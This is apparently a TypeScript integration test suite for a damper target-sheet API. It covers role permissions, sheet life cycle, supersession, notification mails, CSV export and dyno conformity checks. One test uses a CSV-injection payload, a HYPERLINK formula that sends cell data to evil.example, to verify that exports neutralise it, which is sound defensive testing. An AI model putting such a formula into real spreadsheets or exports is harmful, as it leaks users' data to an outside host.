import request from 'supertest';
import { ErrorBody } from '../../shared/errors.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { roles, type Role } from '../../shared/schemas/workspace.ts';
import { ConformityChecksResponse, ConformityRecordDetail, type TargetSheetContent, TargetSheetDetail, TargetSheetsResponse, TargetSheetTransitionResult, type TargetSheetStatus } from '../../shared/schemas/target-sheet.ts';
import { defaultReferenceSpeeds } from '../../shared/target-sheet/reference-speeds.ts';
import { curveForce } from '../../shared/sim/damper-force.ts';
import { mailCount, waitForMail } from './helpers/mail.ts';
import { addMember, createUser, createWorkspace, sessionHeaders, type TestUser } from './helpers/people.ts';
import { cornerDocument, freshSetup, parsed } from './helpers/setup-fixtures.ts';
import { freshSheet, type SheetCast } from './helpers/target-sheet-fixtures.ts';
import { createTestApp, type TestApp } from './helpers/test-app.ts';

let t: TestApp;
let cast: SheetCast;
const people = {} as Record<Role, TestUser>;
let secondLead: TestUser;
const WORKSPACE = 'Tallis & Brume Ride Group';

beforeAll(async () => {
  t = await createTestApp();
  const workspaceId = await createWorkspace(t.db, WORKSPACE);
  for (const role of roles) {
    people[role] = await createUser(t.db, { name: `Sheet ${role}` });
    await addMember(t.db, workspaceId, people[role].id, role);
  }
  secondLead = await createUser(t.db, { name: 'Second lead' });
  await addMember(t.db, workspaceId, secondLead.id, 'lead');
  cast = { workspaceId, workspaceName: WORKSPACE, engineer: people.engineer, lead: people.lead };
});
afterAll(() => t?.close());

const path = (rest = '') => `/api/workspaces/${cast.workspaceId}/target-sheets${rest}`;

async function call(method: 'get' | 'post' | 'put' | 'delete', url: string, who: TestUser, body?: object) {
  const r = request(t.url)[method](url).set(await sessionHeaders(t, who.id));
  return body === undefined ? r : r.send(body);
}

async function statusOf(sheetId: string): Promise<TargetSheetStatus> {
  const row = await t.db.selectFrom('target_sheet').select('status').where('id', '=', sheetId).executeTakeFirstOrThrow();
  return row.status;
}

describe('creating a sheet from a setup revision', () => {
  it('reads the forces off the damper curve at the default speeds, with the gas force and a numbered draft', async () => {
    const setup = await freshSetup(t.db, cast.workspaceId, people.engineer);
    const res = await call('post', path(), people.engineer, { setupId: setup.id, revision: 1 });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const { sheet, history } = TargetSheetDetail.parse(res.body);
    const doc = parsed(cornerDocument());
    expect(sheet.compression.map((p) => p.velocity)).toEqual([...defaultReferenceSpeeds]);
    // The fixture curve has a knot at 0.1 m/s: 130 N compression, 300 N rebound.
    expect(sheet.compression.find((p) => p.velocity === 0.1)?.force).toBe(130);
    expect(sheet.rebound.find((p) => p.velocity === 0.1)?.force).toBe(300);
    sheet.rebound.forEach((p) => expect(p.force).toBe(Math.round(curveForce(doc.damper.rebound, p.velocity))));
    expect(sheet.gasForce).toBe(240);
    expect(sheet).toMatchObject({ status: 'draft', setupId: setup.id, setupRevision: 1, setupName: setup.name, author: { id: people.engineer.id }, approver: null });
    // "Tallis & Brume Ride Group" → TBRG (initials; "&" is skipped).
    expect(sheet.number).toMatch(new RegExp(`^TS-TBRG-${new Date().getUTCFullYear()}-\\d{4}$`));
    expect(history).toMatchObject([{ from: null, to: 'draft', by: { id: people.engineer.id } }]);
    const audit = await t.db.selectFrom('audit_log').select('action').where('entity_id', '=', sheet.id).execute();
    expect(audit.map((a) => a.action)).toEqual(['target_sheet.created']);
  });

  it('numbers sheets one after another and refuses a revision that does not exist', async () => {
    const setup = await freshSetup(t.db, cast.workspaceId, people.engineer);
    const a = TargetSheetDetail.parse((await call('post', path(), people.engineer, { setupId: setup.id, revision: 1, speeds: [0.3, 0.1], tolPct: 5, floorN: 15 })).body);
    const b = TargetSheetDetail.parse((await call('post', path(), people.engineer, { setupId: setup.id, revision: 1 })).body);
    const seq = (n: string) => Number(n.split('-').pop());
    expect(seq(b.sheet.number)).toBe(seq(a.sheet.number) + 1);
    expect(a.sheet.compression.map((p) => [p.velocity, p.tolPct, p.floorN])).toEqual([
      [0.1, 5, 15],
      [0.3, 5, 15],
    ]);
    const missing = await call('post', path(), people.engineer, { setupId: setup.id, revision: 9 });
    expect(missing.status).toBe(404);
    expect(missing.body.error.fields).toEqual([{ path: 'revision', message: 'No revision 9' }]);
  });
});

// Every life-cycle step × every role: who may take it, and the stored status afterwards.
const steps: { name: string; from: TargetSheetStatus; to: TargetSheetStatus; allowed: Role[]; body?: object }[] = [
  { name: 'submit', from: 'draft', to: 'in_review', allowed: ['engineer', 'lead', 'admin'] },
  { name: 'release', from: 'in_review', to: 'released', allowed: ['lead', 'admin'] },
  { name: 'return', from: 'in_review', to: 'returned', allowed: ['lead', 'admin'], body: { reason: 'Rebound band at 0.05 m/s is wider than the supplier can hold' } },
  { name: 'reopen', from: 'returned', to: 'draft', allowed: ['engineer', 'lead', 'admin'] },
];

describe('who may move a sheet', () => {
  const cases = steps.flatMap((s) => roles.map((role) => [s.name, role, s.allowed.includes(role)] as const));
  it.each(cases)('%s as %s → allowed: %s', async (name, role, allowed) => {
    const s = steps.find((x) => x.name === name)!;
    const { sheet } = await freshSheet(t, cast, s.from);
    const res = await call('post', path(`/${sheet.id}/${name}`), people[role], s.body ?? {});
    if (allowed) {
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      const body = TargetSheetTransitionResult.parse(res.body);
      expect(body.sheet.status).toBe(s.to);
      expect(body.history.at(-1)).toMatchObject({ from: s.from, to: s.to, by: { id: people[role].id } });
      expect(await statusOf(sheet.id)).toBe(s.to);
    } else {
      expect(res.status).toBe(403);
      expect(await statusOf(sheet.id)).toBe(s.from);
    }
  });

  const wrongState: [string, TargetSheetStatus][] = [
    ['release', 'draft'],
    ['return', 'draft'],
    ['submit', 'in_review'],
    ['reopen', 'draft'],
    ['submit', 'released'],
    ['return', 'released'],
    ['reopen', 'released'],
    ['release', 'returned'],
  ];
  it.each(wrongState)('%s a %s sheet is a conflict, even for an admin', async (name, from) => {
    const { sheet } = await freshSheet(t, cast, from);
    const res = await call('post', path(`/${sheet.id}/${name}`), people.admin, { reason: 'any' });
    expect(res.status).toBe(409);
    expect(await statusOf(sheet.id)).toBe(from);
  });

  it('needs a reason to send a sheet back', async () => {
    const { sheet } = await freshSheet(t, cast, 'in_review');
    const res = await call('post', path(`/${sheet.id}/return`), people.lead, { reason: '   ' });
    expect(res.status).toBe(400);
    expect(res.body.error.fields[0].path).toBe('reason');
    expect(await statusOf(sheet.id)).toBe('in_review');
  });

  it('writes one audit entry per step, and records the approver and dates on release', async () => {
    const { sheet } = await freshSheet(t, cast, 'in_review');
    t.clock.advance(60_000);
    const res = await call('post', path(`/${sheet.id}/release`), people.lead);
    const body = TargetSheetTransitionResult.parse(res.body);
    expect(body.sheet.approver).toEqual({ id: people.lead.id, name: people.lead.name });
    expect(body.sheet.decidedAt).toBe(t.clock.now().toISOString());
    expect(Date.parse(body.sheet.submittedAt!)).toBeLessThan(Date.parse(body.sheet.decidedAt!));
    const audit = await t.db.selectFrom('audit_log').select('action').where('entity_id', '=', sheet.id).orderBy('at').execute();
    expect(audit.map((a) => a.action)).toEqual(['target_sheet.created', 'target_sheet.submitted', 'target_sheet.released']);
  });
});

describe('editing', () => {
  const edited: TargetSheetContent = {
    compression: [
      { velocity: 0.05, force: 150, tolPct: 10, floorN: 20 },
      { velocity: 0.2, force: 420, tolPct: 8, floorN: 20 },
    ],
    rebound: [{ velocity: 0.1, force: 800, tolPct: 10, floorN: 25 }],
    gasForce: 180,
    notes: 'Supplier asked for fewer points.',
  };

  it('saves a draft', async () => {
    const { sheet } = await freshSheet(t, cast, 'draft');
    const res = await call('put', path(`/${sheet.id}`), people.engineer, edited);
    expect(res.status).toBe(200);
    expect(TargetSheetDetail.parse(res.body).sheet).toMatchObject({ ...edited, status: 'draft' });
  });

  it('reopens a returned sheet as a draft when it is saved, keeping the reason for the record', async () => {
    const { sheet } = await freshSheet(t, cast, 'returned');
    const res = await call('put', path(`/${sheet.id}`), people.engineer, edited);
    const body = TargetSheetDetail.parse(res.body);
    expect(body.sheet).toMatchObject({ status: 'draft', returnReason: 'Fixture: bands too tight' });
    expect(body.history.map((h) => h.to)).toEqual(['draft', 'in_review', 'returned', 'draft']);
  });

  it.each(['in_review', 'released'] as const)('refuses to change a sheet that is %s (409) and leaves it as it was', async (status) => {
    const { sheet } = await freshSheet(t, cast, status);
    const before = await t.db.selectFrom('target_sheet').select(['document', 'updated_at']).where('id', '=', sheet.id).executeTakeFirstOrThrow();
    const res = await call('put', path(`/${sheet.id}`), people.admin, edited);
    expect(res.status).toBe(409);
    expect(res.body.error.message).toMatch(status === 'released' ? /supersedes/ : /in review/);
    expect(await t.db.selectFrom('target_sheet').select(['document', 'updated_at']).where('id', '=', sheet.id).executeTakeFirstOrThrow()).toEqual(before);
  });

  it('refuses speeds that do not rise, naming the point', async () => {
    const { sheet } = await freshSheet(t, cast, 'draft');
    const res = await call('put', path(`/${sheet.id}`), people.engineer, { ...edited, rebound: [edited.rebound[0], { ...edited.rebound[0], velocity: 0.05 }] });
    expect(res.status).toBe(400);
    expect(res.body.error.fields.map((f: { path: string }) => f.path)).toContain('rebound.1.velocity');
  });

  it('deletes drafts but keeps released sheets', async () => {
    const draft = await freshSheet(t, cast, 'draft');
    expect((await call('delete', path(`/${draft.sheet.id}`), people.engineer)).status).toBe(204);
    expect((await call('get', path(`/${draft.sheet.id}`), people.viewer)).status).toBe(404);
    const released = await freshSheet(t, cast, 'released');
    expect((await call('delete', path(`/${released.sheet.id}`), people.admin)).status).toBe(409);
  });
});

describe('supersession', () => {
  const release = async (sheetId: string, comment?: string) => {
    expect((await call('post', path(`/${sheetId}/submit`), people.engineer)).status).toBe(200);
    const res = await call('post', path(`/${sheetId}/release`), people.lead, comment === undefined ? {} : { comment });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    return TargetSheetTransitionResult.parse(res.body);
  };
  const read = async (sheetId: string) => TargetSheetDetail.parse((await call('get', path(`/${sheetId}`), people.viewer)).body);
  const inForce = async (setupId: string) => (await t.db.selectFrom('target_sheet').select('id').where('setup_id', '=', setupId).where('status', '=', 'released').where('superseded_by_id', 'is', null).execute()).map((r) => r.id);

  it('a replacement draft leaves the released sheet in force; releasing the replacement supersedes it at that moment, with the comment stored, audited and shown', async () => {
    const { sheet: old } = await freshSheet(t, cast, 'released');
    const res = await call('post', path(`/${old.id}/supersede`), people.engineer, {});
    expect(res.status).toBe(201);
    const drafted = TargetSheetDetail.parse(res.body);
    const next = drafted.sheet;
    expect(next).toMatchObject({ status: 'draft', supersedes: { id: old.id, number: old.number }, compression: old.compression, rebound: old.rebound, setupRevision: 1 });
    expect(drafted.replaces?.id).toBe(old.id);
    // Drafting changes nothing on the released sheet.
    expect((await read(old.id)).sheet).toEqual(old);
    expect(await inForce(old.setupId)).toEqual([old.id]);

    t.clock.advance(60_000);
    const released = await release(next.id, 'Supplier agreed the softer rebound at the March review.');
    expect(released.sheet).toMatchObject({ status: 'released', releaseComment: 'Supplier agreed the softer rebound at the March review.', supersedes: { id: old.id, number: old.number } });
    expect(released.history.at(-1)).toMatchObject({ to: 'released', reason: 'Supplier agreed the softer rebound at the March review.' });
    expect((await read(old.id)).sheet).toMatchObject({ status: 'released', supersededBy: { id: next.id, number: next.number } });
    expect(await inForce(old.setupId)).toEqual([next.id]);
    const audit = await t.db.selectFrom('audit_log').select(['action', 'summary', 'entity_id']).where('entity_id', 'in', [old.id, next.id]).where('action', 'in', ['target_sheet.released', 'target_sheet.superseded']).execute();
    expect(audit.find((a) => a.entity_id === next.id && a.action === 'target_sheet.released')?.summary).toMatch(new RegExp(`superseding ${old.number}: "Supplier agreed the softer rebound at the March review\\."`));
    expect(audit.find((a) => a.entity_id === old.id && a.action === 'target_sheet.superseded')?.summary).toBe(`Target sheet ${old.number} was superseded by ${next.number}, released by ${people.lead.name}.`);

    const again = await call('post', path(`/${old.id}/supersede`), people.engineer, {});
    expect(again.status).toBe(409);
    expect(again.body.error.message).toContain(next.number);
  });

  it('a sheet drafted from scratch for the same setup supersedes the released one when it is released: never two in force', async () => {
    const { sheet: old } = await freshSheet(t, cast, 'released');
    const created = await call('post', path(), people.engineer, { setupId: old.setupId, revision: 1 });
    expect(created.status).toBe(201);
    const fresh = TargetSheetDetail.parse(created.body);
    // The lead's review can show what it replaces: the sheet in force, targets and bands.
    expect(fresh.replaces).toMatchObject({ id: old.id, compression: old.compression, rebound: old.rebound });
    await release(fresh.sheet.id);
    expect(await inForce(old.setupId)).toEqual([fresh.sheet.id]);
    expect((await read(old.id)).sheet.supersededBy?.id).toBe(fresh.sheet.id);
    expect((await read(fresh.sheet.id)).sheet).toMatchObject({ supersedes: { id: old.id }, releaseComment: null });
  });

  it('a replacement starts from the latest revision by default, or from any revision named, re-read at the same speeds and bands', async () => {
    const { sheet: old } = await freshSheet(t, cast, 'released');
    const softer = { ...cornerDocument(), damper: { ...cornerDocument().damper, rebound: cornerDocument().damper.rebound.map(([v, f]) => [v, f * 0.5]) as [number, number][] } };
    const rev = await request(t.url)
      .post(`/api/workspaces/${cast.workspaceId}/setups/${old.setupId}/revisions`)
      .set(await sessionHeaders(t, people.engineer.id))
      .send({ setup: parsed(softer), message: 'Half the rebound' });
    expect(rev.status, JSON.stringify(rev.body)).toBe(201);
    const next = TargetSheetDetail.parse((await call('post', path(`/${old.id}/supersede`), people.engineer, {})).body).sheet;
    expect(next.setupRevision).toBe(2);
    expect(next.rebound.map((p) => p.velocity)).toEqual(old.rebound.map((p) => p.velocity));
    expect(next.rebound.map((p) => [p.tolPct, p.floorN])).toEqual(old.rebound.map((p) => [p.tolPct, p.floorN]));
    next.rebound.forEach((p, i) => expect(Math.abs(p.force - old.rebound[i].force / 2)).toBeLessThanOrEqual(1));
    expect(next.compression).toEqual(old.compression);
    const fromFirst = TargetSheetDetail.parse((await call('post', path(`/${old.id}/supersede`), people.engineer, { revision: 1 })).body).sheet;
    expect(fromFirst).toMatchObject({ setupRevision: 1, rebound: old.rebound, compression: old.compression });
  });

  it('refuses to supersede a sheet that is not released; deleting a replacement draft leaves the released sheet as it was', async () => {
    const { sheet: draft } = await freshSheet(t, cast, 'draft');
    expect((await call('post', path(`/${draft.id}/supersede`), people.engineer, {})).status).toBe(409);
    const { sheet: old } = await freshSheet(t, cast, 'released');
    const next = TargetSheetDetail.parse((await call('post', path(`/${old.id}/supersede`), people.engineer, {})).body).sheet;
    await call('delete', path(`/${next.id}`), people.engineer);
    expect((await read(old.id)).sheet).toEqual(old);
  });
});

describe('a second person for release (workspace setting)', () => {
  async function leadsOwnSheetInReview() {
    const setup = await freshSetup(t.db, cast.workspaceId, people.engineer);
    const created = await call('post', path(), people.lead, { setupId: setup.id, revision: 1 });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const { sheet } = TargetSheetDetail.parse(created.body);
    expect((await call('post', path(`/${sheet.id}/submit`), people.lead)).status).toBe(200);
    return sheet;
  }

  it('off (the default): a lead may release a sheet they wrote and submitted', async () => {
    const sheet = await leadsOwnSheetInReview();
    expect((await call('post', path(`/${sheet.id}/release`), people.lead)).status).toBe(200);
  });

  it('on: the author-submitter is refused with a plain reason, another lead releases; only an admin changes it', async () => {
    const url = `/api/workspaces/${cast.workspaceId}/settings`;
    expect((await call('put', url, people.lead, { releaseNeedsSecondPerson: true })).status).toBe(403);
    expect((await call('put', url, people.admin, { releaseNeedsSecondPerson: true })).body).toEqual({ releaseNeedsSecondPerson: true });
    try {
      const info = await call('get', `/api/workspaces/${cast.workspaceId}`, people.viewer);
      expect(info.body.settings).toEqual({ releaseNeedsSecondPerson: true });
      const sheet = await leadsOwnSheetInReview();
      const refused = await call('post', path(`/${sheet.id}/release`), people.lead);
      expect(refused.status).toBe(403);
      expect(ErrorBody.parse(refused.body).error.message).toMatch(/second person/);
      expect(await statusOf(sheet.id)).toBe('in_review');
      expect((await call('post', path(`/${sheet.id}/release`), secondLead)).status).toBe(200);
      const audit = await t.db.selectFrom('audit_log').select('action').where('entity_id', '=', cast.workspaceId).where('action', '=', 'workspace.settings_changed').execute();
      expect(audit).toHaveLength(1);
    } finally {
      await call('put', url, people.admin, { releaseNeedsSecondPerson: false });
    }
  });
});

describe('e-mails through the SMTP sink', () => {
  it('on submit, mails every lead of the workspace and nobody else', async () => {
    const { sheet } = await freshSheet(t, cast, 'draft');
    const adminBefore = await mailCount(t.db, people.admin.email);
    const res = await call('post', path(`/${sheet.id}/submit`), people.engineer);
    expect(TargetSheetTransitionResult.parse(res.body).notified).toBe(2);
    for (const lead of [people.lead, secondLead]) {
      const mail = await waitForMail(t.db, lead.email, sheet.number);
      expect(mail.subject).toBe(`Target sheet ${sheet.number} is waiting for your review`);
      expect(mail.text_body).toContain(`/w/${cast.workspaceId}/sheets/${sheet.id}`);
      expect(mail.text_body).toContain(people.engineer.name);
    }
    expect(await mailCount(t.db, people.admin.email)).toBe(adminBefore);
  });

  it('on release, mails the author and states the caution in the answer', async () => {
    const { sheet } = await freshSheet(t, cast, 'in_review');
    const res = await call('post', path(`/${sheet.id}/release`), people.lead);
    const body = TargetSheetTransitionResult.parse(res.body);
    expect(body.notice).toMatch(/changes parts fitted to vehicles/);
    expect(body.notified).toBe(1);
    const mail = await waitForMail(t.db, people.engineer.email, `${sheet.number} was released`);
    expect(mail.subject).toBe(`Target sheet ${sheet.number} was released`);
    expect(mail.to_address).toContain(people.engineer.email);
  });

  it('on return, mails the author with the reason', async () => {
    const { sheet } = await freshSheet(t, cast, 'in_review');
    await call('post', path(`/${sheet.id}/return`), people.admin, { reason: 'Compression at 0.025 m/s is below what the valve can make' });
    const mail = await waitForMail(t.db, people.engineer.email, `${sheet.number} was sent back`);
    expect(mail.subject).toBe(`Target sheet ${sheet.number} was sent back`);
    expect(mail.text_body).toContain('Compression at 0.025 m/s is below what the valve can make');
  });
});

describe('reading', () => {
  it('lets a viewer list and read sheets and download the target table as CSV', async () => {
    const { sheet } = await freshSheet(t, cast, 'released');
    const list = TargetSheetsResponse.parse((await call('get', path(), people.viewer)).body);
    expect(list.sheets.map((s) => s.id)).toContain(sheet.id);
    const csv = await call('get', path(`/${sheet.id}/csv`), people.viewer);
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    expect(csv.headers['content-disposition']).toContain(`${sheet.number}.csv`);
    const lines = csv.text.trim().split('\n');
    expect(lines[0]).toBe(`# damper target sheet ${sheet.number}`);
    const rows = lines.filter((l) => /^(compression|rebound),/.test(l));
    expect(rows).toHaveLength(sheet.compression.length + sheet.rebound.length);
    const p = sheet.rebound[2];
    const half = Math.max((p.tolPct * p.force) / 100, p.floorN);
    expect(rows).toContain(`rebound,${p.velocity},${p.force},${p.tolPct},${p.floorN},${+(p.force - half).toFixed(3)},${+(p.force + half).toFixed(3)}`);
  });
});

describe('dyno conformity', () => {
  // Hand-made targets, ±10 % with a 20 N floor:
  // compression 0.05 m/s 150 ± 20 (floor governs) · 0.1 m/s 400 ± 40 · 0.3 m/s 800 ± 80
  // rebound     0.05 m/s 300 ± 30 · 0.1 m/s 800 ± 80 · 0.3 m/s 1600 ± 160
  const targets: TargetSheetContent = {
    compression: [
      { velocity: 0.05, force: 150, tolPct: 10, floorN: 20 },
      { velocity: 0.1, force: 400, tolPct: 10, floorN: 20 },
      { velocity: 0.3, force: 800, tolPct: 10, floorN: 20 },
    ],
    rebound: [
      { velocity: 0.05, force: 300, tolPct: 10, floorN: 20 },
      { velocity: 0.1, force: 800, tolPct: 10, floorN: 20 },
      { velocity: 0.3, force: 1600, tolPct: 10, floorN: 20 },
    ],
    gasForce: 150,
    notes: '',
  };
  const file = (rows: [number, number, number][]) =>
    `# hand-made peak readings\nvelocity [mm/s],compression force [N],rebound force [N]\n${rows.map((r) => r.join(',')).join('\n')}\n`;
  const onEdges = file([[50, 170, 270], [100, 360, 880], [300, 880, 1440]]);
  const inside = file([[50, 169.9, 270.1], [100, 360.1, 879.9], [300, 879.9, 1440.1]]);
  const outside = file([[50, 170.1, 300], [100, 400, 880.1], [300, 719.9, 1600]]);

  async function sheetWithTargets() {
    const { sheet } = await freshSheet(t, cast, 'draft');
    await call('put', path(`/${sheet.id}`), people.engineer, targets);
    return sheet;
  }

  it('checks every point of every damper: at the edges and just inside pass, just outside fails', async () => {
    const sheet = await sheetWithTargets();
    const res = await request(t.url)
      .post(path(`/${sheet.id}/checks`))
      .set(await sessionHeaders(t, people.engineer.id))
      .field('label', 'PF-0201')
      .field('label', '')
      .field('label', 'PF-0203')
      .attach('file', Buffer.from(onEdges), 'edges.csv')
      .attach('file', Buffer.from(inside), 'pf-0202.csv')
      .attach('file', Buffer.from(outside), 'outside.csv');
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const check = ConformityRecordDetail.parse(res.body);
    const [edges, near, out] = check.report.dampers;
    expect(check.report.dampers.map((d) => d.label)).toEqual(['PF-0201', 'pf-0202', 'PF-0203']);
    expect(check.fileNames).toEqual(['edges.csv', 'pf-0202.csv', 'outside.csv']);
    expect([edges.pass, near.pass, out.pass]).toEqual([true, true, false]);
    expect(check.report).toMatchObject({ verdict: 'fail', passed: 2, failed: 1 });

    // On the upper edge where the floor governs: +20 N is +13.3 % and still inside.
    expect(edges.compression.points[0]).toMatchObject({ target: 150, lower: 130, upper: 170, measured: 170, deviation: 20, pass: true, verdict: 'within' });
    expect(edges.compression.points[0].deviationPct).toBeCloseTo(13.3333, 3);
    expect(edges.rebound.points[2]).toMatchObject({ lower: 1440, upper: 1760, measured: 1440, deviation: -160, pass: true });
    expect(edges.rebound.points[2].deviationPct).toBeCloseTo(-10, 9);

    expect(near.compression.points.map((p) => p.pass)).toEqual([true, true, true]);
    expect(near.compression.points[1].deviation).toBeCloseTo(-39.9, 9);

    expect(out.compression.points.map((p) => p.verdict)).toEqual(['above', 'within', 'below']);
    expect(out.rebound.points.map((p) => p.verdict)).toEqual(['within', 'above', 'within']);
    expect(out.compression.points[2].deviation).toBeCloseTo(-80.1, 9);
    expect(out.compression.points[2].deviationPct).toBeCloseTo(-10.0125, 9);
    expect(out.rebound.points[1].deviation).toBeCloseTo(80.1, 9);
    expect([out.compression.pass, out.rebound.pass]).toEqual([false, false]);

    // Stored, listed per sheet with the measured points behind the plot.
    const listed = ConformityChecksResponse.parse((await call('get', path(`/${sheet.id}/checks`), people.viewer)).body);
    expect(listed.checks).toHaveLength(1);
    expect(listed.checks[0]).toEqual(check);
    expect(listed.checks[0].measured[2].peaks.compression).toEqual([
      { velocity: 0.05, force: 170.1 },
      { velocity: 0.1, force: 400 },
      { velocity: 0.3, force: 719.9 },
    ]);
    const audit = await t.db.selectFrom('audit_log').select('summary').where('action', '=', 'target_sheet.checked').where('entity_id', '=', sheet.id).execute();
    expect(audit.map((a) => a.summary)).toEqual([`${people.engineer.name} checked 3 dampers against ${sheet.number}: 2 passed, 1 failed.`]);

    const csv = await call('get', path(`/${sheet.id}/checks/${check.id}/csv`), people.viewer);
    expect(csv.text).toContain('PF-0203,compression,0.3,800,720,880,719.9,-80.1,-10.01,fail,below');
  });

  it('writes a damper label that looks like a formula as inert text in the check CSV (OWASP CSV injection rule)', async () => {
    const sheet = await sheetWithTargets();
    const label = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const res = await request(t.url).post(path(`/${sheet.id}/checks`)).set(await sessionHeaders(t, people.engineer.id)).field('label', label).attach('file', Buffer.from(onEdges), 'a.csv');
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const check = ConformityRecordDetail.parse(res.body);
    const csv = await call('get', path(`/${sheet.id}/checks/${check.id}/csv`), people.viewer);
    const lines = csv.text.split('\n').filter((l) => l.length > 0);
    expect(lines.some((l) => l.startsWith('='))).toBe(false);
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",compression,0.05,150,130,170,170,20,13.33,pass,within`);
  });

  it('reads a speed between two measured points on the straight line between them', async () => {
    const sheet = await sheetWithTargets();
    // 0.1 m/s between (0.08, 300) and (0.12, 500) → 400 N exactly on target.
    const csv = file([[50, 150, 300], [80, 300, 700], [120, 500, 900], [300, 800, 1600]]);
    const res = await request(t.url).post(path(`/${sheet.id}/checks`)).set(await sessionHeaders(t, people.engineer.id)).attach('file', Buffer.from(csv), 'between.csv');
    const check = ConformityRecordDetail.parse(res.body);
    expect(check.report.dampers[0].compression.points[1].measured).toBeCloseTo(400, 9);
    expect(check.report.dampers[0].rebound.points[1].measured).toBeCloseTo(800, 9);
    expect(check.report.verdict).toBe('pass');
  });

  it('refuses a bad file naming the file and line, and saves nothing of the upload', async () => {
    const sheet = await sheetWithTargets();
    const bad = 'velocity [mm/s],compression force [N],rebound force [N]\n50,150,300\n100,four hundred,800\n300,800,1600\n';
    const res = await request(t.url)
      .post(path(`/${sheet.id}/checks`))
      .set(await sessionHeaders(t, people.engineer.id))
      .attach('file', Buffer.from(onEdges), 'good.csv')
      .attach('file', Buffer.from(bad), 'bad.csv');
    expect(res.status).toBe(400);
    expect(res.body.error.message).toMatch(/^Nothing was saved: bad\.csv, line 3: /);
    expect(res.body.error.fields[0].path).toBe('line 3');
    const rows = await t.db.selectFrom('dyno_check').select('id').where('sheet_id', '=', sheet.id).execute();
    expect(rows).toEqual([]);
  });

  it('refuses two dampers with one label, and a viewer uploading', async () => {
    const sheet = await sheetWithTargets();
    const twice = await request(t.url)
      .post(path(`/${sheet.id}/checks`))
      .set(await sessionHeaders(t, people.engineer.id))
      .field('label', 'PF-1')
      .field('label', 'PF-1')
      .attach('file', Buffer.from(onEdges), 'a.csv')
      .attach('file', Buffer.from(inside), 'b.csv');
    expect(twice.status).toBe(400);
    const viewer = await request(t.url).post(path(`/${sheet.id}/checks`)).set(await sessionHeaders(t, people.viewer.id)).attach('file', Buffer.from(onEdges), 'a.csv');
    expect(viewer.status).toBe(403);
    expect(await t.db.selectFrom('dyno_check').select('id').where('sheet_id', '=', sheet.id).execute()).toEqual([]);
  });
});
